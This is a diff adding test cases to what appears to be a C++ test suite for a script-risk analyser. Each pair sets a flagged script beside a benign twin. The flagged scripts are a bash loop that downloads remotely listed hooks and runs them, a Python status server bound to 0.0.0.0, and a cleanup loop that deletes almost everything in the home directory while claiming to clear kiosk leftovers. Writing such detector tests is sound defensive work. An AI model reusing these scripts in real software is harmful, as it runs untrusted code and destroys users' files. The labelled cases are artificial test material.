@@ -1,6 +1,6 @@
 // The classes the twenty-sixth session modelled (issue 14), from the tune
-// parts of the hundred-and-twelfth and hundred-and-fourteenth rounds
-// (tests/corpus/prog116_MANIFEST.tsv, prog118_MANIFEST.tsv):
+// parts of the hundred-and-twelfth, -fourteenth, -fifteenth and -sixteenth
+// rounds (tests/corpus/prog116_MANIFEST.tsv, prog118_, prog119_, prog120_):
 // programs written from the rubric alone by writers who never saw the
 // assessor. Strings here are never executed.
 #include "test_util.hpp"
@@ -280,6 +280,164 @@ TEST(HundredAndTwelfthRoundClasses, AnExtractedDownloadMovedIntoPlaceIsStillTheD
        "for p in common_line bevel_head; do\n"
        "  install_plugin \"$p\"\n"
        "done\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `( cd "$OUT_DIR" && "$target" )` where target is "$OUT_DIR/.hooks/NAME":
+// the code took OUT_DIR (the user's value, ./schedule by default) for an
+// absolute place, so the path means the file it downloaded there, not one
+// under OUT_DIR/OUT_DIR. The same steps copied from ./steps stay LOW.
+TEST(HundredAndTwelfthRoundClasses, AfterACdIntoAPlaceItsPathsAreFromTheStart) {
+  const Case cases[] = {
+      {"post-update steps named by a downloaded rota, fetched into OUT_DIR/.hooks and run after cd OUT_DIR", B,
+       "#!/usr/bin/env bash\n"
+       "# Pulls today's rota and runs the post-update steps the rota service lists.\n"
+       "set -euo pipefail\n"
+       "ROTA_URL=\"${ROTA_URL:-https://rota.raptor-trust.example/api/v1}\"\n"
+       "OUT_DIR=\"${OUT_DIR:-./schedule}\"\n"
+       "HOOK_DIR=\"${OUT_DIR}/.hooks\"\n"
+       "mkdir -p \"$OUT_DIR\" \"$HOOK_DIR\"\n"
+       "curl -fsS \"${ROTA_URL}/sites/hawkridge/displays\" -o \"${OUT_DIR}/rota.json\"\n"
+       "jq -r '.post_update[]? | .url' \"${OUT_DIR}/rota.json\" | while read -r url; do\n"
+       "    name=\"$(basename \"${url%%\\?*}\")\"\n"
+       "    target=\"${HOOK_DIR}/${name}\"\n"
+       "    if wget -q --timeout=20 -O \"$target\" \"$url\"; then\n"
+       "        chmod +x \"$target\"\n"
+       "        ( cd \"$OUT_DIR\" && \"$target\" ) || echo \"post-update $name failed\" >&2\n"
+       "    fi\n"
+       "done\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same steps copied from ./steps", L,
+       "#!/usr/bin/env bash\n"
+       "# Pulls today's rota and runs the post-update steps shipped in ./steps.\n"
+       "set -euo pipefail\n"
+       "ROTA_URL=\"${ROTA_URL:-https://rota.raptor-trust.example/api/v1}\"\n"
+       "OUT_DIR=\"${OUT_DIR:-./schedule}\"\n"
+       "HOOK_DIR=\"${OUT_DIR}/.hooks\"\n"
+       "mkdir -p \"$OUT_DIR\" \"$HOOK_DIR\"\n"
+       "curl -fsS \"${ROTA_URL}/sites/hawkridge/displays\" -o \"${OUT_DIR}/rota.json\"\n"
+       "jq -r '.post_update[]? | .url' \"${OUT_DIR}/rota.json\" | while read -r url; do\n"
+       "    name=\"$(basename \"${url%%\\?*}\")\"\n"
+       "    target=\"${HOOK_DIR}/${name}\"\n"
+       "    if cp \"./steps/${name}\" \"$target\"; then\n"
+       "        chmod +x \"$target\"\n"
+       "        ( cd \"$OUT_DIR\" && \"$target\" ) || echo \"post-update $name failed\" >&2\n"
+       "    fi\n"
+       "done\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// cfg.get(SECTION, OPTION) of a parser given the code's defaults
+// (read_string) is the option as written there, or what a file read put
+// there instead: a status server bound to the default 0.0.0.0 listens on
+// all interfaces, one bound to 127.0.0.1 does not. (getint and getboolean
+// already were; get was unknown text.)
+TEST(HundredAndTwelfthRoundClasses, ConfigParserGetIsTheOptionAsWritten) {
+  const Case cases[] = {
+      {"a status server bound to the configuration's default 0.0.0.0", M,
+       "import configparser\n"
+       "import sys\n"
+       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
+       "\n"
+       "DEFAULT_CONFIG = \"\"\"\n"
+       "[status]\n"
+       "bind = 0.0.0.0\n"
+       "port = 8081\n"
+       "\"\"\"\n"
+       "\n"
+       "\n"
+       "class StatusHandler(BaseHTTPRequestHandler):\n"
+       "    def do_GET(self):\n"
+       "        self.send_response(200)\n"
+       "        self.end_headers()\n"
+       "        self.wfile.write(b\"ok\\n\")\n"
+       "\n"
+       "\n"
+       "def load_config(path):\n"
+       "    cfg = configparser.ConfigParser()\n"
+       "    cfg.read_string(DEFAULT_CONFIG)\n"
+       "    cfg.read(path)\n"
+       "    return cfg\n"
+       "\n"
+       "\n"
+       "cfg = load_config(sys.argv[1] if len(sys.argv) > 1 else \"status.ini\")\n"
+       "server = ThreadingHTTPServer((cfg.get(\"status\", \"bind\"), cfg.getint(\"status\", \"port\")), StatusHandler)\n"
+       "server.serve_forever()\n",
+       "LISTENS-ON-ALL-INTERFACES"},
+      {"the same server with 127.0.0.1 as the default", L,
+       "import configparser\n"
+       "import sys\n"
+       "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
+       "\n"
+       "DEFAULT_CONFIG = \"\"\"\n"
+       "[status]\n"
+       "bind = 127.0.0.1\n"
+       "port = 8081\n"
+       "\"\"\"\n"
+       "\n"
+       "\n"
+       "class StatusHandler(BaseHTTPRequestHandler):\n"
+       "    def do_GET(self):\n"
+       "        self.send_response(200)\n"
+       "        self.end_headers()\n"
+       "        self.wfile.write(b\"ok\\n\")\n"
+       "\n"
+       "\n"
+       "def load_config(path):\n"
+       "    cfg = configparser.ConfigParser()\n"
+       "    cfg.read_string(DEFAULT_CONFIG)\n"
+       "    cfg.read(path)\n"
+       "    return cfg\n"
+       "\n"
+       "\n"
+       "cfg = load_config(sys.argv[1] if len(sys.argv) > 1 else \"status.ini\")\n"
+       "server = ThreadingHTTPServer((cfg.get(\"status\", \"bind\"), cfg.getint(\"status\", \"port\")), StatusHandler)\n"
+       "server.serve_forever()\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `find ROOT -mindepth 1 -maxdepth 1 -print0 | while read -r -d '' e; do
+// rm -rf "$e"; done`: each line find prints is ROOT/<name>, so a loop that
+// reads them one by one removes every entry of ROOT. ROOT two levels above
+// ~/.cache/menukiosk is the home directory: WIPE. The same loop over the
+// cache's own legacy directory stays LOW.
+TEST(HundredAndTwelfthRoundClasses, EachLineFindPrintsHasItsShape) {
+  const Case cases[] = {
+      {"every entry of the home directory but .cache removed, found by find and read one by one", B,
+       "#!/usr/bin/env bash\n"
+       "# Clears leftovers of earlier kiosk builds from their profile root.\n"
+       "set -uo pipefail\n"
+       ": \"${XDG_CACHE_HOME:=$HOME/.cache}\"\n"
+       "CACHE_DIR=\"${KIOSK_CACHE_DIR:-$XDG_CACHE_HOME/menukiosk}\"\n"
+       "legacy_root() {\n"
+       "  local d=\"${CACHE_DIR%/}\"\n"
+       "  d=\"${d%/*}\"\n"
+       "  d=\"${d%/*}\"\n"
+       "  printf '%s\\n' \"${d:-$HOME}\"\n"
+       "}\n"
+       "root=\"$(legacy_root)\"\n"
+       "find \"$root\" -mindepth 1 -maxdepth 1 ! -name \"$(basename \"$XDG_CACHE_HOME\")\" -print0 \\\n"
+       "  | while IFS= read -r -d '' entry; do\n"
+       "      rm -rf --one-file-system -- \"$entry\"\n"
+       "    done\n",
+       "WIPE", SH},
+      {"the same loop over the cache's own legacy directory", L,
+       "#!/usr/bin/env bash\n"
+       "# Clears leftovers of earlier kiosk builds from the cache's legacy directory.\n"
+       "set -uo pipefail\n"
+       ": \"${XDG_CACHE_HOME:=$HOME/.cache}\"\n"
+       "CACHE_DIR=\"${KIOSK_CACHE_DIR:-$XDG_CACHE_HOME/menukiosk}\"\n"
+       "root=\"${CACHE_DIR%/}/legacy\"\n"
+       "find \"$root\" -mindepth 1 -maxdepth 1 ! -name \"$(basename \"$XDG_CACHE_HOME\")\" -print0 \\\n"
+       "  | while IFS= read -r -d '' entry; do\n"
+       "      rm -rf --one-file-system -- \"$entry\"\n"
+       "    done\n",
        nullptr, SH},
   };
   for (const auto& c : cases) check(c);
